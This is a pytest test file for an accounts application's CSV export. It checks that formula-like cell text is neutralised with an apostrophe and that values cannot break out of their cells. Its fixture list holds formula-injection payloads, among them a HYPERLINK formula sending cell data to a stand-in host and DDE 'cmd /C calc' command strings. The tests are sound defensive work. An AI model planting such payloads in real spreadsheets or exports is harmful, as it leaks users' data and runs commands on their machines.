"""A file for a spreadsheet: figures stay figures, and nothing that a customer wrote is computed."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from io import StringIO

import pytest

from accounts.csv_files import cell, csv_file

HOSTILE = [
    '=HYPERLINK("https://evil.test?"&A1,"Look")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\t",
    "\r",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_compute_begins_with_an_apostrophe(text: str) -> None:
    assert cell(text).startswith("'")


@pytest.mark.parametrize("text", HOSTILE)
def test_nor_is_it_computed_where_semicolons_part_the_cells(text: str) -> None:
    response = csv_file("usage", ["Name", "Id"], [[f"Sales;{text}", f'1;{text};"']])

    lines = StringIO(response.content.decode("utf-8-sig"), newline="")
    cells = [cell.strip() for line in csv.reader(lines, delimiter=";") for cell in line]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("text", ["", "Sales", "a=b", "1-2", "O'Neill", "“é”", "5", "a; b"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+3"), "1000"),
        (-7, "-7"),
        (None, ""),
        (dt.date(2026, 3, 1), "2026-03-01"),
    ],
)
def test_figures_and_days_stay_figures_and_days(value: Decimal | int | None, written: str) -> None:
    assert cell(value) == written


def test_no_text_leaves_its_cell() -> None:
    hostile = [f'a",{text}' for text in HOSTILE] + ['"\r\n=1+1', 'x","=1+1']

    response = csv_file("usage", ["Name", "=Head"], [[text, 1] for text in hostile])

    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(StringIO(text, newline="")))
    assert rows[0] == ["Name", "'=Head"]
    assert [len(row) for row in rows[1:]] == [2] * len(hostile)
    assert [row[1] for row in rows[1:]] == ["1"] * len(hostile)


def test_it_is_a_file_to_keep_and_is_nothing_else() -> None:
    response = csv_file("usage", ["Name"], [])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="usage.csv"'
